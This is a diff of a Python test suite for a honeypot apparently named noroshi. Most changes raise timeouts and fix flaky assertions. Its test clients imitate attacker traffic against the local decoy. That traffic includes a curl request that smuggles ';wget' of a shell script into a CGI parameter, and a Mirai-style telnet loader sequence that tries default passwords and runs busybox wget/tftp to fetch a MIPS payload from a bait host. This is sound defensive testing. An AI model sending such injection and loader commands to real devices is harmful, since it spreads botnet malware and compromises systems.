@@ -44,12 +44,12 @@ def configuration(folder, decoy="", services=None, approved='approved_by = "the 
 
 
 def noroshi(*words, wanted=0, text=True):
-    done = subprocess.run([NOROSHI, *map(str, words)], stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=text, timeout=60, stdin=subprocess.DEVNULL)
+    done = subprocess.run([NOROSHI, *map(str, words)], stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=text, timeout=120, stdin=subprocess.DEVNULL)
     assert done.returncode == wanted, (words, done)
     return done
 
 
-def wait_for(condition, what, seconds=60):
+def wait_for(condition, what, seconds=120):
     end = time.monotonic() + seconds
     while not condition():
         assert time.monotonic() < end, what
@@ -98,7 +98,7 @@ class Decoy:
 def ask(port, *pieces, wait=b""):
     """A session: each piece after the other side said something."""
     said = b""
-    with socket.create_connection((HERE, port), 20) as connection:
+    with socket.create_connection((HERE, port), 60) as connection:
         for piece in pieces:
             connection.sendall(piece)
             said += connection.recv(65536)
@@ -147,15 +147,15 @@ def client_ssh(folder):
 def client_curl():
     for words in (["-u", f"porter:{PASSWORDS[2]}", f"http://{HERE}/setup.cgi?cmd=;wget+http://{BAIT}:8081/h.sh"],
                   ["-d", "username=crane&password=pass%2Bword%201", f"http://{HERE}/login.cgi"], ["--data-binary", "@/proc/self/status", f"http://{HERE}/upload"]):
-        done = subprocess.run(["curl", "-s", "-m", "20", "-w", "%{http_code}", *words], stdout=subprocess.PIPE, text=True, timeout=60)
+        done = subprocess.run(["curl", "-s", "-m", "60", "-w", "%{http_code}", *words], stdout=subprocess.PIPE, text=True, timeout=90)
         assert done.stdout == "login needed\n401", done
 
 
 def client_loader():
     """As Mirai's scanner and loader talk: a list, then commands in an order that its shells know."""
     said = ask(23, b"", b"root\r\n", PASSWORDS[3].encode() + b"\r\n", b"admin\r\n", PASSWORDS[4].encode() + b"\r\n", b"enable\r\n", b"system\r\n", b"shell\r\n", b"sh\r\n",
-               b"/bin/busybox DECOY\r\n", b"cd /tmp; /bin/busybox wget http://%s:8081/bins/m.mips -O - > m; /bin/busybox tftp -g -l m -r bins/m.mips %s\r\n" % (BAIT.encode(), BAIT.encode()))
-    assert b"Login incorrect" in said and b"DECOY: applet not found" in said, said
+               b"/bin/busybox DECOY\r\n", b"cd /tmp; /bin/busybox wget http://%s:8081/bins/m.mips -O - > m; /bin/busybox tftp -g -l m -r bins/m.mips %s\r\n" % (BAIT.encode(), BAIT.encode()), wait=b"DECOY: applet not found")
+    assert b"Login incorrect" in said, said
 
 
 def client_redis():
@@ -180,16 +180,16 @@ def client_adb(folder):
 
 
 def client_nmap():
-    done = subprocess.run(["nmap", "-n", "-Pn", "-sT", "-p", "445", "--script", "smb-protocols,smb2-time", HERE], stdout=subprocess.PIPE, text=True, timeout=100)
+    done = subprocess.run(["nmap", "-n", "-Pn", "-sT", "-p", "445", "--script", "smb-protocols,smb2-time", HERE], stdout=subprocess.PIPE, text=True, timeout=240)
     assert "302" in done.stdout and "NT LM 0.12" in done.stdout and "311" not in done.stdout, done.stdout
-    done = subprocess.run(["nmap", "-n", "-Pn", "-sV", "--version-light", "-p", "22", HERE], stdout=subprocess.PIPE, text=True, timeout=100)
+    done = subprocess.run(["nmap", "-n", "-Pn", "-sV", "--version-light", "-p", "22", HERE], stdout=subprocess.PIPE, text=True, timeout=240)
     assert "OpenSSH 9.2p1" in done.stdout, done.stdout
 
 
 def client_datagrams():
     question = b"\x12\x34\x01\0\0\1\0\0\0\0\0\0\7harbour\7example\0\0\1\0\1"
     with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as own:
-        own.settimeout(20)
+        own.settimeout(60)
         for port, bytes_, least in ((53, question, 1), (53, question + bytes(300), 1), (123, b"\x23" + bytes(47), 48), (1900, b"M-SEARCH * HTTP/1.1\r\nST: ssdp:all\r\n\r\n", 1)):
             own.sendto(bytes_, (HERE, port))
             answer, source = own.recvfrom(65536)
@@ -219,8 +219,7 @@ def test_real_clients(folder):
         check_lines(decoy)
         check_processes(decoy)
         for path in ("sessions", "passwords"):
-            (text,) = [each.read_text() for each in decoy.kept.glob(path + "-*")]
-            (folder / (path + ".json")).write_text(text)
+            (folder / (path + ".json")).write_text("".join(each.read_text() for each in sorted(decoy.kept.glob(path + "-*"))))  # two about midnight
         check_secrets(folder, decoy, sample)
     finally:
         decoy.end()
@@ -319,6 +318,7 @@ def test_a_policy_forbids_accounts_and_payloads(folder):
 def test_sessions_end_by_bytes_time_and_with_the_decoy(folder):
     decoy = Decoy(folder, decoy='session_time = "2 s"; session_bytes = "2 KiB"; per_minute = 6;')
     try:
+        minute = time.monotonic() // 60  # of the decoy's clock
         slow = socket.create_connection((HERE, 80))
         slow.sendall(b"GET / HTTP/1.1\r\nX: ")  # and never the rest
         with socket.create_connection((HERE, 7777)) as large:
@@ -335,14 +335,14 @@ def test_sessions_end_by_bytes_time_and_with_the_decoy(folder):
         slow.close()
         others = [socket.create_connection((HERE, 23)) for _ in range(10)]  # four of them have begun before the limit
         greeted = sum(1 for each in others if greets(each))
-        assert greeted in (4, 6), greeted  # 6: the minute ended between
+        assert greeted == 4 if time.monotonic() // 60 == minute else 4 <= greeted <= 10, greeted  # else the minute ended between
         decoy.end()
         assert {line["decoy"]["ended"] for line in decoy.lines("telnet")} <= {"stopped", "late"} and len(decoy.lines("telnet")) == greeted, decoy.lines("telnet")
     finally:
         decoy.end()
 
 
-def greets(connection, seconds=20):
+def greets(connection, seconds=60):
     connection.settimeout(seconds)
     try:
         return connection.recv(100) != b""
@@ -390,7 +390,13 @@ def test_it_ends_when_either_process_does(folder):
     front = decoy.front()
     decoy.process.kill()
     decoy.process.wait(30)
-    wait_for(lambda: not Path(f"/proc/{front}").exists() or "State:\tZ" in Path(f"/proc/{front}/status").read_text(), "the front to end with the writer")
+
+    def ended():
+        try:
+            return "State:\tZ" in Path(f"/proc/{front}/status").read_text()
+        except OSError:
+            return True
+    wait_for(ended, "the front to end with the writer")
 
 
 def test_a_machine_without_descriptors_does_not_keep_it_busy(folder):
@@ -490,7 +496,7 @@ def main():
     if missing:
         print("1..0 # SKIP", *missing, "missing")
         return 0
-    code = subprocess.run([sys.argv[1], "--seconds", "200", sys.executable, __file__, sys.argv[1], "--inside"], timeout=240).returncode
+    code = subprocess.run([sys.argv[1], "--seconds", "600", sys.executable, __file__, sys.argv[1], "--inside"], timeout=660).returncode
     if code == 77:
         print("1..0 # SKIP no namespaces here")
     return 0 if code == 77 else code
